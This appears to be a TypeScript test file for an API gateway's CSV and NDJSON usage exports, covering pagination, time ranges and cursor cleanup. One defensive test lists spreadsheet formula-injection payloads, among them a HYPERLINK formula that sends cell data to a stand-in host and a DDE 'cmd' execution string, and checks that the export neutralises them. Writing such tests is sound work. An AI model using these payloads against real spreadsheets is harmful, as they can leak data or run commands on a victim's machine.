// The ledger's exports through a real gateway (issue 33, exports stream; issue 34, finding 9): CSV and
// NDJSON hold the JSON pages' rows, `limit`, `before` and the time range are honoured, text a spreadsheet
// would run as a formula is neutralised (OWASP) while numbers stay numbers, and a client that leaves an
// export mid-stream releases the cursor the export reads from.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { openDatabase } from '../server/store/database.js';
import { openSqliteReadCursors } from '../server/store/sqlite-worker-dialect.js';
import { newUsageRecordId, type UsageRecord } from '../server/usage/usage-record.js';
import { UsageStore } from '../server/usage/usage-store.js';
import { adminApi } from './helpers/admin-api.js';
import { startGateway, type TestGateway } from './helpers/start-gateway.js';

let gateway: TestGateway;
before(async () => {
  gateway = await startGateway();
  // Before any request: an idle keep-alive connection would time out while this runs, and reset the next fetch.
  await store(Array.from({ length: 100_000 }, (_, index) => row(index % 5000, { account_id: 'acct_leaves', created_at: start + index })));
});
after(async () => {
  await gateway?.close();
});

const hour = 3_600_000;
const start = Date.UTC(2026, 0, 10);

function row(index: number, fields: Partial<UsageRecord> = {}): UsageRecord {
  return {
    id: newUsageRecordId(), created_at: start + index * hour, request_id: `req_${index}`, account_id: 'acct_x', key_id: 'key_x', model: 'priced',
    deployment: 'up/priced', protocol: 'openai-chat', endpoint: 'POST /v1/chat/completions', status: 200, input_tokens: index, cached_input_tokens: 0,
    output_tokens: 2 * index, reasoning_tokens: 0, cache_write_input_tokens: 0, cache_write_1h_input_tokens: 0, price_tier_above_tokens: 0, service_tier: null, batch: false, batch_id: null, image_count: 0, latency_ms: 5, cost_usd: index / 1000, estimated: index % 2 === 0, completed: true, ...fields,
  };
}

/** Rows written straight into the gateway's own store, as the recorder would. */
async function store(rows: UsageRecord[]): Promise<void> {
  const db = await openDatabase({ dataDir: gateway.dataDir });
  await new UsageStore(db).insertMany(rows);
  await db.destroy();
}

/** The fields of a usage record as the contract lists them (generated/openapi.json, bundled from openapi/). */
const spec = JSON.parse(readFileSync(new URL('../generated/openapi.json', import.meta.url), 'utf8')) as { components: { schemas: { UsageRecord: { properties: object } } } };
const specUsageRecordFields = Object.keys(spec.components.schemas.UsageRecord.properties);

const admin = (path: string, accept: string) => fetch(`${gateway.origin}/admin/v1/usage/records${path}`, { headers: { authorization: `Bearer ${gateway.adminKey}`, accept } });

/** RFC 4180, enough for the export: quoted cells with doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const char = text[at];
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') (cell += '"'), at++;
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') cells.push(cell), (cell = '');
    else if (char === '\r' && text[at + 1] === '\n') records.push([...cells, cell]), (cells = []), (cell = ''), at++;
    else cell += char;
  }
  return records;
}

describe('CSV and NDJSON exports', () => {
  const rows = Array.from({ length: 30 }, (_, index) => row(index, { account_id: 'acct_forms', cost_usd: index === 7 ? -0.25 : index / 1000 }));
  const range = `account_id=acct_forms&from=${start / 1000}&to=${start / 1000 + 30 * 3600}`;
  before(() => store(rows));

  test('NDJSON has the JSON page’s records, line for line; CSV the same values', async () => {
    const page = (await (await admin(`?${range}&limit=1000`, 'application/json')).json()) as { data: Array<Record<string, unknown>> };
    assert.equal(page.data.length, 30);
    const ndjson = await admin(`?${range}`, 'application/x-ndjson');
    assert.equal(ndjson.status, 200);
    assert.match(ndjson.headers.get('content-type')!, /^application\/x-ndjson/);
    assert.match(ndjson.headers.get('content-disposition')!, /^attachment; filename="?usage-\d{4}-\d{2}-\d{2}\.ndjson"?$/);
    const lines = (await ndjson.text()).split('\n');
    assert.equal(lines.pop(), '', 'every line ends with a line break');
    assert.deepEqual(lines.map((line) => JSON.parse(line)), page.data);

    const [header, ...csvRows] = parseCsv(await (await admin(`?${range}`, 'text/csv')).text());
    assert.deepEqual(header, specUsageRecordFields, 'the CSV’s columns are the spec’s UsageRecord fields, all of them, in its order');
    assert.equal(csvRows.length, 30);
    csvRows.forEach((cells, index) => {
      const record = page.data[index]!;
      const fields = Object.fromEntries(header!.map((name, column) => [name, cells[column]]));
      assert.equal(fields.id, record.id);
      assert.equal(fields.created_at, new Date(record.created_at as number).toISOString());
      assert.equal(Number(fields.cost_usd), record.cost_usd);
      assert.equal(fields.estimated, String(record.estimated));
    });
    const negative = csvRows.find((cells) => cells[0] === rows[7]!.id)!;
    assert.equal(negative[header!.indexOf('cost_usd')], '-0.25', 'a negative number stays a number');
  });

  test('limit, before and the time range are honoured', async () => {
    const ndjson = async (query: string) => (await (await admin(`?${query}`, 'application/x-ndjson')).text()).trim().split('\n').map((line) => JSON.parse(line) as UsageRecord);
    const newestFirst = [...rows].sort((a, b) => b.created_at - a.created_at).map((record) => record.id);
    assert.deepEqual((await ndjson(`${range}&limit=4`)).map((record) => record.id), newestFirst.slice(0, 4));
    const firstPage = (await (await admin(`?${range}&limit=5`, 'application/json')).json()) as { next_before: string };
    assert.deepEqual((await ndjson(`${range}&before=${firstPage.next_before}&limit=3`)).map((record) => record.id), newestFirst.slice(5, 8));
    const narrow = await ndjson(`account_id=acct_forms&from=${start / 1000 + 10 * 3600}&to=${start / 1000 + 12 * 3600}`);
    assert.deepEqual(narrow.map((record) => record.request_id), ['req_11', 'req_10']);
    const status = async (query: string, accept: string) => {
      const response = await admin(`?${range}&${query}`, accept);
      await response.arrayBuffer();
      return response.status;
    };
    assert.equal(await status('limit=1001', 'application/json'), 400, 'a JSON page stays at most 1000');
    assert.equal(await status('limit=1001', 'text/csv'), 200, 'an export takes more');
    assert.equal(await status('limit=1000001', 'text/csv'), 400, 'but not more than 1,000,000');
  });
});

describe('CSV formula injection (issue 34, finding 9)', () => {
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

  test('a model string a key sent lands neutralised in the admin’s CSV, in every text column', async () => {
    const account = await adminApi(gateway).createAccount({ name: 'formulas' });
    const { key } = await adminApi(gateway).createKey(account.id, { name: '=cmd' });
    for (const model of formulas) {
      const response = await fetch(`${gateway.origin}/v1/chat/completions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
        body: JSON.stringify({ model, messages: [{ role: 'user', content: 'hi' }] }),
      });
      await response.body?.cancel();
    }
    // A text column other than the model: a stored row whose request ID is a formula.
    await store([row(0, { account_id: account.id, request_id: '=1+2', model: '@x', cost_usd: -1.5, created_at: Date.now() - 1000 })]);
    let csv: string[][] = [];
    for (let attempt = 0; attempt < 50 && csv.length < formulas.length + 2; attempt++) {
      await sleep(200);
      csv = parseCsv(await (await admin(`?account_id=${account.id}`, 'text/csv')).text());
    }
    const [header, ...records] = csv;
    const column = (name: string) => records.map((cells) => cells[header!.indexOf(name)]);
    const models = column('model');
    for (const model of formulas) assert.ok(models.includes(`'${model}`), `${JSON.stringify(model)} is exported as '${JSON.stringify(model)}: ${JSON.stringify(models)}`);
    assert.ok(models.includes(`'@x`));
    assert.ok(column('request_id').includes(`'=1+2`), 'every text column');
    assert.ok(column('cost_usd').includes('-1.5'), 'a negative number is not touched');
    const raw = await (await admin(`?account_id=${account.id}`, 'text/csv')).text();
    assert.ok(raw.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), 'quoted, with the leading quote inside');
    for (const cell of records.flat()) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-[\d.]+$/.test(cell), `${JSON.stringify(cell)} starts like a formula`);
  });
});

test('a client that leaves an export mid-stream closes the cursor it read from', async () => {
  assert.equal(await openSqliteReadCursors(), 0);
  const leave = new AbortController();
  const response = await fetch(`${gateway.origin}/admin/v1/usage/records?account_id=acct_leaves&from=0`, {
    headers: { authorization: `Bearer ${gateway.adminKey}`, accept: 'text/csv' },
    signal: leave.signal,
  });
  await response.body!.getReader().read();
  // The client reads no more: the socket fills, the export waits for drain, and its cursor stays open.
  await sleep(500);
  assert.equal(await openSqliteReadCursors(), 1, 'the export reads from a cursor, held open (not read ahead) while the client is slow');
  leave.abort();
  let open = 1;
  for (let attempt = 0; attempt < 50 && open > 0; attempt++) {
    await sleep(100);
    open = await openSqliteReadCursors();
  }
  assert.equal(open, 0, 'the client left: the reader thread dropped the cursor and its connection');
});
